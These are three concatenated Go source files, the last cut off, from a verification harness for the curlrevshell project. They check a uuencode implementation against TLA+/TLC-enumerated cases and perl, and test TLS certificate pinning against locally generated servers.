	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C15", "exploration", uuCampaign)
}

type uuCase struct {
	Phase  string `json:"phase"`
	Kind   string `json:"kind"`
	N      int    `json:"n"`
	M      string `json:"m"`
	Input  []int  `json:"input"`
	Enc    []int  `json:"enc"`
	MaxEnc int    `json:"maxenc"`
	MaxDec int    `json:"maxdec"`
	Text   []int  `json:"text"`
	Res    struct {
		OK    bool   `json:"ok"`
		Bytes []int  `json:"bytes"`
		Line  int    `json:"line"`
		Off   int    `json:"off"`
		Kind  string `json:"kind"`
	} `json:"res"`
}

func toBytes(a []int) []byte {
	b := make([]byte, len(a))
	for i, v := range a {
		b[i] = byte(v)
	}
	return b
}

// safely runs f and converts a panic into an error.
func safely(f func()) (err error) {
	defer func() {
		if p := recover(); p != nil {
			err = fmt.Errorf("panic: %v", p)
		}
	}()
	f()
	return nil
}

// encodePure runs AppendEncode in three memory layouts and checks that
// neither the source nor the existing destination contents change.
func encodePure(src []byte) ([]byte, error) {
	var out []byte
	for layout := 0; layout < 3; layout++ {
		// the source sits inside a larger sentinel-filled buffer
		big := bytes.Repeat([]byte{0xA5}, len(src)+64)
		copy(big[32:], src)
		s := big[32 : 32+len(src)]
		var dst []byte
		switch layout {
		case 1:
			dst = make([]byte, 5, 5+uu.MaxEncodedLen(src)+16)
			copy(dst, "HELLO")
			for i := 5; i < cap(dst); i++ {
				dst[:cap(dst)][i] = 0x5A
			}
		case 2:
			dst = []byte("X")
		}
		pre := append([]byte(nil), dst...)
		var got []byte
		if err := safely(func() { got = uu.AppendEncode(dst, s) }); err != nil {
			return nil, err
		}
		if !bytes.Equal(big[32:32+len(src)], src) || !bytes.Equal(big[:32], bytes.Repeat([]byte{0xA5}, 32)) ||
			!bytes.Equal(big[32+len(src):], bytes.Repeat([]byte{0xA5}, 32)) {
			return nil, fmt.Errorf("AppendEncode modified its source or the memory around it (layout %d)", layout)
		}
		if !bytes.HasPrefix(got, pre) {
			return nil, fmt.Errorf("AppendEncode changed the existing destination contents (layout %d)", layout)
		}
		enc := got[len(pre):]
		if layout == 0 {
			out = append([]byte(nil), enc...)
		} else if !bytes.Equal(out, enc) {
			return nil, fmt.Errorf("AppendEncode result depends on the destination buffer (layout %d)", layout)
		}
	}
	return out, nil
}

func decodePure(text []byte) ([]byte, error, error) {
	var out []byte
	var derr error
	for layout := 0; layout < 3; layout++ {
		big := bytes.Repeat([]byte{0xA5}, len(text)+64)
		copy(big[32:], text)
		s := big[32 : 32+len(text)]
		var dst []byte
		switch layout {
		case 1:
			dst = make([]byte, 3, 3+uu.MaxDecodedLen(text)+16)
			copy(dst, "abc")
		case 2:
			dst = []byte("Z")
		}
		pre := append([]byte(nil), dst...)
		var got []byte
		var err error
		if perr := safely(func() { got, err = uu.AppendDecode(dst, s) }); perr != nil {
			return nil, nil, perr
		}
		if !bytes.Equal(big[32:32+len(text)], text) || !bytes.Equal(big[:32], bytes.Repeat([]byte{0xA5}, 32)) ||
			!bytes.Equal(big[32+len(text):], bytes.Repeat([]byte{0xA5}, 32)) {
			return nil, nil, fmt.Errorf("AppendDecode modified its source (layout %d)", layout)
		}
		if !bytes.Equal(dst, pre) {
			return nil, nil, fmt.Errorf("AppendDecode changed the existing destination contents (layout %d)", layout)
		}
		if err == nil {
			if !bytes.HasPrefix(got, pre) {
				return nil, nil, fmt.Errorf("AppendDecode did not append to the destination (layout %d)", layout)
			}
			got = got[len(pre):]
		}
		if layout == 0 {
			out, derr = append([]byte(nil), got...), err
		} else if (err == nil) != (derr == nil) || (err == nil && !bytes.Equal(out, got)) {
			return nil, nil, fmt.Errorf("AppendDecode result depends on the destination buffer (layout %d)", layout)
		}
	}
	return out, derr, nil
}

// perlPack runs perl's pack/unpack "u" over all inputs in one process.
func perlPack(inputs [][]byte) ([][]byte, [][]byte, error) {
	script := `while(<STDIN>){chomp;my $d=pack("H*",$_);my $e=pack("u",$d);my $r=unpack("u",$e);print unpack("H*",$e)," ",unpack("H*",$r),"\n";}`
	var in bytes.Buffer
	for _, b := range inputs {
		in.WriteString(hex.EncodeToString(b))
		in.WriteByte('\n')
	}
	cmd := exec.Command("perl", "-e", script)
	cmd.Stdin = &in
	out, err := cmd.Output()
	if err != nil {
		return nil, nil, fmt.Errorf("perl: %w", err)
	}
	lines := strings.Split(strings.TrimRight(string(out), "\n"), "\n")
	if len(lines) != len(inputs) {
		return nil, nil, fmt.Errorf("perl returned %d lines for %d inputs", len(lines), len(inputs))
	}
	encs := make([][]byte, len(inputs))
	decs := make([][]byte, len(inputs))
	for i, l := range lines {
		parts := strings.SplitN(l, " ", 2)
		encs[i], _ = hex.DecodeString(parts[0])
		if len(parts) > 1 {
			decs[i], _ = hex.DecodeString(parts[1])
		}
	}
	return encs, decs, nil
}

// perlUnpack decodes texts with perl's unpack "u".
func perlUnpack(texts [][]byte) ([][]byte, error) {
	script := `while(<STDIN>){chomp;my $t=pack("H*",$_);my $r=unpack("u",$t);print unpack("H*",$r),"\n";}`
	var in bytes.Buffer
	for _, b := range texts {
		in.WriteString(hex.EncodeToString(b))
		in.WriteByte('\n')
	}
	cmd := exec.Command("perl", "-e", script)
	cmd.Stdin = &in
	out, err := cmd.Output()
	if err != nil {
		return nil, fmt.Errorf("perl: %w", err)
	}
	lines := strings.Split(strings.TrimRight(string(out), "\n"), "\n")
	res := make([][]byte, len(texts))
	for i := range texts {
		if i < len(lines) {
			res[i], _ = hex.DecodeString(lines[i])
		}
	}
	return res, nil
}

func uuCampaign(r *ev.Run) {
	cfg, tcfg := "UU_q", "UUTables_q"
	if r.Tier == "thorough" {
		cfg, tcfg = "UU_t", "UUTables_t"
	}
	// 1. TLC enumerates the case space, checks the laws, prints the cases
	var mu sync.Mutex
	cases := map[string]uuCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "UU", Config: cfg, Workers: 8, Timeout: 40 * time.Minute, JavaOpts: "-Xss512m",
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c uuCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Append("tlc_invariants_checked", "UU: RoundTrip MaxLenOK LineShape DecTotal TickSame CRLFSame on every enumerated case")
	r.Set("tlc_cases", len(cases))
	// 2. every case against the real code, and against perl
	var encInputs [][]byte
	var encCases []uuCase
	nenc, ndec := 0, 0
	distinct := map[string]bool{}
	for _, c := range cases {
		switch c.Phase {
		case "enc":
			nenc++
			in := toBytes(c.Input)
			want := toBytes(c.Enc)
			got, err := encodePure(in)
			switch {
			case err != nil:
				r.Violation("encode:"+errKind(err), map[string]any{"case": c, "error": err.Error()})
			case !bytes.Equal(got, want):
				r.Violation("encode:differs-from-specification", map[string]any{"n": c.N, "kind": c.Kind, "got": string(got), "want": string(want)})
			default:
				if uu.MaxEncodedLen(in) < len(got) {
					r.Violation("maxlen:encoded-underestimated", map[string]any{"n": c.N, "max": uu.MaxEncodedLen(in), "len": len(got)})
				}
				if uu.MaxDecodedLen(got) < len(in) {
					r.Violation("maxlen:decoded-underestimated", map[string]any{"n": c.N, "max": uu.MaxDecodedLen(got), "len": len(in)})
				}
				dec, derr, perr := decodePure(got)
				if perr != nil {
					r.Violation("decode:"+errKind(perr), map[string]any{"n": c.N, "kind": c.Kind, "error": perr.Error()})
				} else if derr != nil || !bytes.Equal(dec, in) {
					r.Violation("roundtrip", map[string]any{"n": c.N, "kind": c.Kind, "error": fmt.Sprint(derr)})
				}
			}
			encInputs = append(encInputs, in)
			encCases = append(encCases, c)
			if c.N > 0 {
				distinct[fmt.Sprintf("enc/%s/%d", c.Kind, c.N)] = true
			}
		case "dec":
			ndec++
			text := toBytes(c.Text)
			got, derr, perr := decodePure(text)
			switch {
			case perr != nil:
				r.Violation("decode:"+errKind(perr), map[string]any{"case": c, "error": perr.Error()})
			case c.Res.OK && (derr != nil || !bytes.Equal(got, toBytes(c.Res.Bytes))):
				r.Violation("decode:valid-text-refused-or-wrong", map[string]any{"m": c.M, "n": c.N, "text": string(text), "error": fmt.Sprint(derr)})
			case !c.Res.OK && derr == nil:
				r.Violation("decode:invalid-text-accepted", map[string]any{"m": c.M, "n": c.N, "text": string(text), "kind": c.Res.Kind})
			case !c.Res.OK:
				var de uu.DecodeError
				if !errors.As(derr, &de) {
					r.Violation("decode:error-does-not-locate", map[string]any{"m": c.M, "error": derr.Error()})
				} else if de.Line != c.Res.Line || (c.Res.Kind == "char" && de.Offset != c.Res.Off) {
					r.Violation("decode:error-location", map[string]any{"m": c.M, "n": c.N, "got_line": de.Line, "got_off": de.Offset, "want_line": c.Res.Line, "want_off": c.Res.Off, "kind": c.Res.Kind})
				}
			}
			distinct[fmt.Sprintf("dec/%s/%d/%s", c.Kind, c.N, c.M)] = true
		}
	}
	pencs, pdecs, err := perlPack(encInputs)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	for i, c := range encCases {
		if !bytes.Equal(pencs[i], toBytes(c.Enc)) {
			// the transcription in UU.tla disagrees with perl: a specification defect, not a verdict
			r.Inconclusive("UU.tla's Enc differs from perl's pack for n=%d kind=%s", c.N, c.Kind)
			return
		}
		if !bytes.Equal(pdecs[i], encInputs[i]) {
			r.Inconclusive("perl does not round-trip its own encoding for n=%d", c.N)
			return
		}
	}
	r.Sample(map[string]any{"phase": "enc", "n": 4, "input_hex": "04050607", "expected": string(toBytes(func() []int {
		for _, c := range cases {
			if c.Phase == "enc" && c.N == 4 && c.Kind == "count" {
				return c.Enc
			}
		}
		return nil
	}()))})
	for _, c := range cases {
		if c.Phase == "dec" && c.M == "hi-last" && c.N == 3 {
			r.Sample(map[string]any{"phase": "dec", "mutation": c.M, "text": string(toBytes(c.Text)), "expected": c.Res})
		}
	}
	// 3. all 2^24 three-byte groups through the real encoder; tables validated by TLC
	tables, err := groupTables(r)
	if err != nil {
		return
	}
	tj, _ := json.Marshal(tables)
	tres, err := tlcrun.Run(tlcrun.Opts{Module: "UUTables", Config: tcfg, Workers: 8, Timeout: 30 * time.Minute,
		Files: map[string][]byte{"uutables.json": tj}})
	if err != nil || tres.TimedOut || (!tres.OK && tres.Violated == "") {
		r.Inconclusive("TLC %s: err=%v\n%s", tcfg, err, tail(tres))
		return
	}
	if tres.Violated != "" {
		r.Violation("encode:group-table", map[string]any{"what": "a table entry projected from the real encoder differs from EncGroup", "tlc": tail(tres)})
	}
	r.Set("group_table_entries_validated_by_tlc", tres.Distinct)
	// 4. big random inputs, perl as reference (differential testing, not model checking)
	rng := rand.New(rand.NewSource(r.Seed))
	nbig := 6
	if r.Tier == "thorough" {
		nbig = 40
	}
	var bigs [][]byte
	for i := 0; i < nbig; i++ {
		n := 1 << 20
		if i%2 == 1 {
			n = rng.Intn(1 << 20)
		}
		b := make([]byte, n)
		switch i % 4 {
		case 0:
			rng.Read(b)
		case 1:
			for k := range b {
				b[k] = byte(k % 3 * 0x60)
			}
		case 2:
			for k := range b {
				b[k] = []byte{0, '`', ' ', 0xff, '\\', '\''}[rng.Intn(6)]
			}
		default:
			rng.Read(b)
		}
		bigs = append(bigs, b)
	}
	pe, _, err := perlPack(bigs)
	if err != nil {
		r.Inconclusive("%v", err)
		return
	}
	var encs [][]byte
	for i, b := range bigs {
		got, err := encodePure(b)
		if err != nil {
			r.Violation("encode:"+errKind(err), map[string]any{"len": len(b), "error": err.Error()})
			continue
		}
		if !bytes.Equal(got, pe[i]) {
			r.Violation("encode:differs-from-perl", map[string]any{"len": len(b), "seed": r.Seed, "index": i})
		}
		if uu.MaxEncodedLen(b) < len(got) || uu.MaxDecodedLen(got) < len(b) {
			r.Violation("maxlen:underestimated", map[string]any{"len": len(b)})
		}
		dec, derr, perr := decodePure(got)
		if perr != nil || derr != nil || !bytes.Equal(dec, b) {
			r.Violation("roundtrip", map[string]any{"len": len(b), "error": fmt.Sprint(derr, perr)})
		}
		encs = append(encs, got)
		distinct[fmt.Sprintf("big/%d/%d", i, len(b))] = true
	}
	if pd, err := perlUnpack(encs); err == nil {
		for i := range encs {
			if !bytes.Equal(pd[i], bigs[i]) {
				r.Violation("encode:perl-cannot-decode", map[string]any{"len": len(bigs[i])})
			}
		}
	}
	// 5. arbitrary text never panics the decoder (seeded garbage built from the alphabet's neighbourhood)
	ngarb := 20000
	if r.Tier == "thorough" {
		ngarb = 400000
	}
	alphabet := []byte{'\n', '\r', ' ', '`', '!', 'M', '_', 'a', 0, 31, 127, 255, '#', '$', '%'}
	for i := 0; i < ngarb; i++ {
		n := rng.Intn(40)
		b := make([]byte, n)
		for k := range b {
			b[k] = alphabet[rng.Intn(len(alphabet))]
		}
		var out []byte
		var derr error
		if perr := safely(func() { out, derr = uu.AppendDecode(nil, b) }); perr != nil {
			r.Violation("decode:panic", map[string]any{"text_hex": hex.EncodeToString(b), "error": perr.Error()})
			break
		}
		if derr != nil {
			var de uu.DecodeError
			if !errors.As(derr, &de) {
				r.Violation("decode:error-does-not-locate", map[string]any{"text_hex": hex.EncodeToString(b), "error": derr.Error()})
				break
			}
		} else if len(out) > uu.MaxDecodedLen(b) {
			r.Violation("maxlen:decoded-underestimated", map[string]any{"text_hex": hex.EncodeToString(b)})
			break
		}
	}
	// dense texts: the decoder takes any length byte, also above 'M' (perl's unpack does too), so
	// a line may carry more than 45 bytes; the advertised maximum must cover many such lines
	ndense := 0
	for _, lb := range []int{'M', 'N', 'P', '_', '`' + 1, 0x80, 0xc0, 0xff} {
		for _, nl := range []int{1, 2, 10, 41, 200, 1000} {
			for _, fill := range []byte{'!', '_', 'M'} {
				for _, eol := range []string{"\n", "\r\n"} {
					n := lb - 32
					line := append([]byte{byte(lb)}, bytes.Repeat([]byte{fill}, (n+2)/3*4)...)
					line = append(line, eol...)
					text := bytes.Repeat(line, nl)
					var out []byte
					var derr error
					ndense++
					if perr := safely(func() { out, derr = uu.AppendDecode(nil, text) }); perr != nil {
						r.Violation("decode:panic", map[string]any{"length_byte": lb, "lines": nl, "error": perr.Error()})
						continue
					}
					if derr == nil && len(out) > uu.MaxDecodedLen(text) {
						r.Violation("maxlen:decoded-underestimated", map[string]any{"length_byte": lb, "lines": nl, "fill": string(fill), "max": uu.MaxDecodedLen(text), "decoded": len(out), "text_len": len(text)})
					}
				}
			}
		}
	}
	r.Set("dense_texts", ndense)
	r.Add("evaluations", len(cases)+nbig+ngarb+ndense+(1<<24))
	r.Add("distinct_nontrivial", len(distinct))
	r.Set("enc_cases", nenc)
	r.Set("dec_cases", ndec)
	r.Set("big_random_vs_perl", nbig)
	r.Set("garbage_texts", ngarb)
	r.Set("groups_swept", 1<<24)
	r.Rule("TLC enumerates (length, content pattern) encoder cases and (base encoding, mutation) decoder cases from UU.tla, checks the laws and emits expected results; each is run through the real functions in three memory layouts and through perl; all 2^24 groups are encoded by the real encoder and the projected tables validated by TLC against EncGroup; big random inputs use perl as reference (differential); non-trivial = distinct non-empty cases")
	r.Assume("perl 5.36's pack/unpack 'u' is the reference for Perl compatibility")
	r.Assume("inputs beyond the enumerated classes are seeded samples, not a proof over all byte strings")
	_ = os.Getenv
	_ = filepath.Join
}

func errKind(err error) string {
	s := err.Error()
	switch {
	case strings.HasPrefix(s, "panic"):
		return "panic"
	case strings.Contains(s, "source"):
		return "modifies-source"
	case strings.Contains(s, "destination"):
		return "modifies-destination"
	}
	return "error"
}

// groupTables encodes all 2^24 groups with the real encoder, checks that
// each output character depends only on the bytes it may depend on, and
// returns the four tables.
func groupTables(r *ev.Run) (map[string]any, error) {
	t0 := make([]int, 256)
	t3 := make([]int, 256)
	t1 := make([][]int, 256)
	t2 := make([][]int, 256)
	for i := range t1 {
		t1[i] = make([]int, 256)
		t2[i] = make([]int, 256)
	}
	// reference values from (a,b,0) and (0,b,c)
	for a := 0; a < 256; a++ {
		for b := 0; b < 256; b++ {
			e := uu.AppendEncode(nil, []byte{byte(a), byte(b), 0})
			if len(e) != 6 || e[0] != '#' || e[5] != '\n' {
				r.Violation("encode:group-shape", map[string]any{"group": []int{a, b, 0}, "got": string(e)})
				return nil, fmt.Errorf("shape")
			}
			t0[a] = int(e[1])
			t1[a][b] = int(e[2])
			e2 := uu.AppendEncode(nil, []byte{0, byte(a), byte(b)})
			t2[a][b] = int(e2[3])
			t3[b] = int(e2[4])
		}
	}
	var wg sync.WaitGroup
	var mu sync.Mutex
	var bad []int
	nw := runtime.NumCPU()
	for wk := 0; wk < nw; wk++ {
		wg.Add(1)
		go func(wk int) {
			defer wg.Done()
			buf := make([]byte, 0, 16)
			for a := wk; a < 256; a += nw {
				for b := 0; b < 256; b++ {
					for c := 0; c < 256; c++ {
						e := uu.AppendEncode(buf[:0], []byte{byte(a), byte(b), byte(c)})
						if len(e) != 6 || e[0] != '#' || e[5] != '\n' || int(e[1]) != t0[a] || int(e[2]) != t1[a][b] || int(e[3]) != t2[b][c] || int(e[4]) != t3[c] {
							mu.Lock()
							if bad == nil {
								bad = []int{a, b, c}
							}
							mu.Unlock()
							return
						}
					}
				}
			}
		}(wk)
	}
	wg.Wait()
	if bad != nil {
		r.Violation("encode:group-dependency", map[string]any{"group": bad, "what": "an output character depends on bytes it must not depend on, or the line shape is wrong"})
		return nil, fmt.Errorf("dependency")
	}
	return map[string]any{"t0": t0, "t1": t1, "t2": t2, "t3": t3}, nil
}
