package main

import (
	"crypto/tls"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"sort"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/pin"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C13", "model_checking", pinCampaign)
}

type pinCase struct {
	Fp      []string `json:"fp"`
	Srv     []string `json:"srv"`
	Outcome []string `json:"outcome"`
}

func pinCampaign(r *ev.Run) {
	cfg := "Pin_q"
	if r.Tier == "thorough" {
		cfg = "Pin_t"
	}
	var mu sync.Mutex
	cases := map[string]pinCase{}
	res, err := tlcrun.Run(tlcrun.Opts{Module: "Pin", Config: cfg, Workers: 8, Timeout: 30 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag != "CASE" {
				return
			}
			var c pinCase
			if json.Unmarshal([]byte(p), &c) == nil {
				mu.Lock()
				cases[p] = c
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" || !res.OK {
		r.Inconclusive("TLC %s: err=%v violated=%q\n%s", cfg, err, resViolated(res), tail(res))
		return
	}
	r.Add("states", res.Distinct)
	r.Add("transitions", res.Generated)
	r.Append("tlc_invariants_checked", "Pin: OwnConfigOnly GlobalsUntouched NoRequestBeforeCheck over every interleaving of Configure/Connect of the calls")
	// the trust store of this process: one CA
	trusted := pin.NewCA("trusted test root")
	if err := pin.InstallTrust(os.Getenv("VERIF_SCRATCH"), trusted); err != nil {
		r.Inconclusive("trust store: %v", err)
		return
	}
	untrusted := pin.NewCA("untrusted issuer")
	keys := make([]string, 0, len(cases))
	for k := range cases {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	rng := rand.New(rand.NewSource(r.Seed))
	mkCert := func(kind string) tls.Certificate {
		switch kind {
		case "self":
			return pin.SelfSigned()
		case "chain":
			return untrusted.Leaf()
		}
		return trusted.Leaf()
	}
	// sanity of the harness itself: an unpinned call to the trusted server must work,
	// otherwise the trust store did not take effect and every verdict would be wrong
	{
		s, err := pin.NewServer(mkCert("trusted"))
		if err != nil {
			r.Inconclusive("%v", err)
			return
		}
		o := pin.Call(s, "")
		s.Close()
		if o.Outcome != "accepted" {
			r.Inconclusive("harness: an unpinned call to a server with a trusted certificate fails (%v); the process trust store is not in effect", o.Err)
			return
		}
	}
	g0 := pin.ReadGlobals()
	if g0.ClientTransport != nil {
		r.Inconclusive("harness: http.DefaultClient already has a transport before any pinned call")
		return
	}
	nseq, nconc, ncalls := 0, 0, 0
	distinct := map[string]bool{}
	report := func(key string, c pinCase, mode string, i int, o pin.Observation, fps []string) {
		r.Violation(key, map[string]any{"mode": mode, "calls_fp": c.Fp, "calls_srv": c.Srv, "call": i + 1, "fingerprint": fps[i],
			"expected": c.Outcome[i], "observed": o.Outcome, "error": fmt.Sprint(o.Err), "problem": o.Problem})
	}
	classify := func(want, got string) string {
		switch {
		case got == "accepted" && want != "accepted":
			return "talked-to-wrong-server"
		case want == "accepted":
			return "right-server-refused"
		case want == "refused-early":
			return "malformed-fingerprint-not-refused-outright"
		}
		return "refusal-kind"
	}
	limit := len(keys)
	if r.Tier == "quick" && limit > 729 {
		limit = 729
	}
	for ci, k := range keys[:limit] {
		c := cases[k]
		n := len(c.Fp)
		// fresh servers for every call
		srvs := make([]*pin.Server, n)
		fps := make([]string, n)
		for i := 0; i < n; i++ {
			s, err := pin.NewServer(mkCert(c.Srv[i]))
			if err != nil {
				r.Inconclusive("%v", err)
				return
			}
			srvs[i] = s
			fps[i] = pin.Fingerprint(c.Fp[i], s.Cert, rng)
		}
		// 1. as a history: one after the other
		for i := 0; i < n; i++ {
			o := pin.Call(srvs[i], fps[i])
			ncalls++
			if o.Outcome != c.Outcome[i] {
				report(classify(c.Outcome[i], o.Outcome), c, "sequence", i, o, fps)
			} else if o.Problem != "" {
				report("inconsistent-report", c, "sequence", i, o, fps)
			}
			if g := pin.ReadGlobals(); !g.Same(g0) {
				r.Violation("process-defaults-changed", map[string]any{"calls_fp": c.Fp, "calls_srv": c.Srv, "after_call": i + 1,
					"what": "http.DefaultClient / http.DefaultTransport differ from their state at start"})
			}
		}
		nseq++
		// 2. the same calls at the same time (every third case; all in thorough)
		if r.Tier == "thorough" || ci%3 == 0 {
			obs := make([]pin.Observation, n)
			var wg sync.WaitGroup
			for i := 0; i < n; i++ {
				wg.Add(1)
				go func(i int) {
					defer wg.Done()
					obs[i] = pin.Call(srvs[i], fps[i])
				}(i)
			}
			wg.Wait()
			nconc++
			ncalls += n
			for i := 0; i < n; i++ {
				if obs[i].Outcome != c.Outcome[i] {
					report(classify(c.Outcome[i], obs[i].Outcome), c, "concurrent", i, obs[i], fps)
				}
			}
			if g := pin.ReadGlobals(); !g.Same(g0) {
				r.Violation("process-defaults-changed", map[string]any{"calls_fp": c.Fp, "calls_srv": c.Srv, "mode": "concurrent"})
			}
		}
		for _, s := range srvs {
			s.Close()
		}
		nt := false
		for _, o := range c.Outcome {
			if o == "accepted" {
				nt = true
			}
		}
		if nt {
			distinct[k] = true
		}
		if ci < 3 {
			r.Sample(map[string]any{"fingerprints": c.Fp, "servers": c.Srv, "expected": c.Outcome, "spelled": fps})
		}
	}
	// 3. histories on ONE server: OwnConfigOnly says a call's fate is a function of its own
	// fingerprint and the server's certificate, so whatever was done to the same server before
	// (a successful pinned or unpinned connection that left a TLS session behind, a refusal)
	// must not matter.  Expected fates are those of the single calls TLC emitted.
	single := map[[2]string]string{}
	for _, c := range cases {
		for i := range c.Fp {
			single[[2]string{c.Fp[i], c.Srv[i]}] = c.Outcome[i]
		}
	}
	var fpKinds []string
	seenKind := map[string]bool{}
	for k := range single {
		if !seenKind[k[0]] {
			seenKind[k[0]] = true
			fpKinds = append(fpKinds, k[0])
		}
	}
	sort.Strings(fpKinds)
	nsame := 0
	for _, sk := range []string{"self", "chain", "trusted"} {
		for _, f1 := range fpKinds {
			for _, f2 := range fpKinds {
				if r.Tier == "quick" && single[[2]string{f1, sk}] != "accepted" {
					continue // quick: only histories that begin with a connection that worked
				}
				s, err := pin.NewServer(mkCert(sk))
				if err != nil {
					r.Inconclusive("%v", err)
					return
				}
				hist := []string{f1, f2, f1, f2}
				fps := make([]string, len(hist))
				want := make([]string, len(hist))
				for i, f := range hist {
					fps[i] = pin.Fingerprint(f, s.Cert, rng)
					want[i] = single[[2]string{f, sk}]
				}
				for i := range hist {
					o := pin.Call(s, fps[i])
					ncalls++
					if o.Outcome != want[i] {
						r.Violation(classify(want[i], o.Outcome)+":same-server-history", map[string]any{"mode": "same server", "server": sk, "calls_fp": hist, "call": i + 1,
							"fingerprint": fps[i], "expected": want[i], "observed": o.Outcome, "error": fmt.Sprint(o.Err), "problem": o.Problem})
						break
					}
				}
				s.Close()
				nsame++
			}
		}
	}
	r.Set("same_server_histories", nsame)
	r.Add("evaluations", ncalls)
	r.Add("distinct_nontrivial", len(distinct))
	r.Add("traces_validated_against_impl", nseq+nconc+nsame)
	r.Set("histories", nseq)
	r.Set("concurrent_sets", nconc)
	r.Set("exhaustive", limit == len(keys))
	r.Rule("TLC enumerates every assignment of 9 fingerprint kinds x 3 server kinds to the calls and every interleaving of their Configure/Connect steps (Pin.tla) and emits each call's outcome; every assignment is run on the real simpleshell.Go against fresh real TLS servers with freshly generated keys, first as a sequence and then concurrently, comparing each call's fate (request reached the handler / refused in TLS / refused before connecting) and the process-wide HTTP defaults after every call; non-trivial = assignments with at least one accepted call")
	r.Assume("the process trust store is replaced by one generated root through SSL_CERT_FILE/SSL_CERT_DIR before the first verification")
	r.Assume("SHA-256, X.509 and TLS are trusted; 'other' fingerprints are seeded near misses (other key, one bit off, half right)")
}
