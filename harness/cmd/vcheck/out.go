package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"os"
	"runtime"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/brk"
	"github.com/magisterquis/curlrevshell/verifharness/ev"
	"github.com/magisterquis/curlrevshell/verifharness/graph"
	"github.com/magisterquis/curlrevshell/verifharness/tlcrun"
)

func init() {
	register("C03", "model_checking", func(r *ev.Run) {
		outCampaign(r, "C03")
		compositionLeg(r)
		liveOutputLeg(r)
		transcriptLeg(r, "C03", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
	})
	register("C04", "model_checking", func(r *ev.Run) {
		ctlCampaign(r, "C04")
		ctlLiveness(r)
		httpGenerationsLeg(r)
		oneShellNoticeLeg(r)
		repoTestsLeg(r, "C04")
		freeRunLeg(r, "C04", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
		transcriptLeg(r, "C04", map[string]int{"quick": 300, "thorough": 3000}[r.Tier])
		outCampaign(r, "C04")
	})
}

// envSchedules derives environment schedules from the edge-covering walks of
// an Emit configuration: the non-tau labels of each walk.
func envSchedules(r *ev.Run, module, cfg string, rng *rand.Rand, maxLen int) ([][]brk.EnvStep, *tlcrun.Result) {
	g := graph.New()
	var mu sync.Mutex
	res, err := tlcrun.Run(tlcrun.Opts{Module: module, Config: cfg, Workers: 4, Timeout: 10 * time.Minute,
		OnTagged: func(tag, p string) {
			if tag == "EDGE" {
				mu.Lock()
				g.AddEdgeJSON(p)
				mu.Unlock()
			}
		}})
	if err != nil || res.TimedOut || res.Violated != "" {
		r.Inconclusive("TLC %s: err=%v timeout=%v violated=%q\n%s", cfg, err, res != nil && res.TimedOut, resViolated(res), tail(res))
		return nil, res
	}
	g.SetInitByNoIncoming()
	seen := map[string]bool{}
	var out [][]brk.EnvStep
	for _, w := range g.CoveringWalks(rng, maxLen) {
		var s []brk.EnvStep
		for _, ei := range w {
			var st brk.EnvStep
			json.Unmarshal(g.Edges[ei].Act, &st)
			if st.N != "tau" {
				s = append(s, st)
			}
		}
		k, _ := json.Marshal(s)
		if len(s) == 0 || seen[string(k)] {
			continue
		}
		seen[string(k)] = true
		out = append(out, s)
	}
	sort.Slice(out, func(i, j int) bool {
		a, _ := json.Marshal(out[i])
		b, _ := json.Marshal(out[j])
		return string(a) < string(b)
	})
	rng.Shuffle(len(out), func(i, j int) { out[i], out[j] = out[j], out[i] })
	return out, res
}

func resViolated(r *tlcrun.Result) string {
	if r == nil {
		return ""
	}
	return r.Violated
}

func tail(r *tlcrun.Result) string {
	if r == nil {
		return ""
	}
	t := r.Tail
	if len(t) > 25 {
		t = t[len(t)-25:]
	}
	return strings.Join(t, "\n")
}

type outRun struct {
	sched []brk.EnvStep
	opts  brk.OutOpts
	res   *brk.OutResult
}

// traceAccepted asks TLC whether the concatenation of the traces is a
// behaviour of the trace specification.
func traceAccepted(module, cfgText string, traces [][]brk.TraceEv) (bool, *tlcrun.Result, error) {
	// On acceptance TLC prints the whole accepting behaviour, one state per event: big batches
	// are validated in slices, a few TLC processes at a time.
	const slice = 600
	if len(traces) > slice {
		type out struct {
			ok  bool
			res *tlcrun.Result
			err error
		}
		n := (len(traces) + slice - 1) / slice
		outs := make([]out, n)
		var wg sync.WaitGroup
		sem := make(chan struct{}, 4)
		for i := 0; i < n; i++ {
			wg.Add(1)
			sem <- struct{}{}
			go func(i int) {
				defer wg.Done()
				defer func() { <-sem }()
				hi := (i + 1) * slice
				if hi > len(traces) {
					hi = len(traces)
				}
				ok, res, err := traceAccepted(module, cfgText, traces[i*slice:hi])
				outs[i] = out{ok, res, err}
			}(i)
		}
		wg.Wait()
		all := true
		sum := &tlcrun.Result{OK: true}
		for _, o := range outs {
			if o.err != nil {
				return false, o.res, o.err
			}
			if o.res != nil {
				sum.Distinct += o.res.Distinct
				sum.Generated += o.res.Generated
				if !o.ok {
					sum.Violated = o.res.Violated
					sum.Tail = o.res.Tail
				}
			}
			all = all && o.ok
		}
		return all, sum, nil
	}
	var b bytes.Buffer
	for i, t := range traces {
		if i > 0 {
			b.WriteString(`{"e":"Reset"}` + "\n")
		}
		b.Write(brk.MarshalTrace(t))
	}
	res, err := tlcrun.Run(tlcrun.Opts{Module: module, Config: "trace_run", Workers: 4, Timeout: 10 * time.Minute,
		Files: map[string][]byte{"trace.ndjson": b.Bytes(), "trace_run.cfg": []byte(cfgText)}})
	if err != nil {
		return false, res, err
	}
	if res.TimedOut {
